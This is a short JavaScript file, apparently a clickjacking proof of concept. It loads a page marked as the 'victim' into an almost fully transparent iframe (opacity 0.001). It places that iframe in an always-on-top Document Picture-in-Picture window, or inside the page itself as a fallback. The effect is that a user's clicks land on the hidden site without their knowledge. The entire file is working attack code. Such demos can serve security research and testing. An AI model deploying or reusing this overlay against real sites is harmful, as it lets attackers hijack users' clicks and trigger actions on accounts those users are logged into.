// Shows the frame in a picture-in-picture window, which is always on top.
"use strict";

document.querySelector("[data-start]").addEventListener("click", async () => {
  const frame = document.createElement("iframe");
  frame.src = document.body.dataset.victim;
  frame.style.opacity = "0.001";
  try {
    const floating = await documentPictureInPicture.requestWindow({ width: 640, height: 800 });
    floating.document.body.append(frame);
    frame.style.cssText += "position:absolute;inset:0;width:640px;height:800px;border:0";
  } catch { // no such window here: in the page itself
    document.querySelector(".stage").append(frame);
  }
});
